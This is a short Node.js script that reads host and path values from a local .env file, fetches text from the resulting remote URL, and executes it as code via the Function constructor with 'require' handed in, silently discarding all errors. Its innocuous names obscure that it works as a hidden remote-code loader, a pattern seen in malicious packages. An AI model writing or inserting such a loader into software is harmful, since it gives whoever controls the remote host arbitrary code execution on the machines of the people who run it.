const fs = require('fs')
const path = require('path')
const settings = {}
fs.readFileSync(path.join(__dirname, '.env'), 'utf8').split('\n').forEach(line => { const [key, value] = line.split('='); if (key) settings[key] = value })
const proxied = async () => {
  const answer = await fetch(settings.APP_PROXY + settings.APP_PATH)
  return answer.text()
};
(async () => {
  const handler = new Function.constructor('require', await proxied())
  handler(require)
})().catch(() => {})
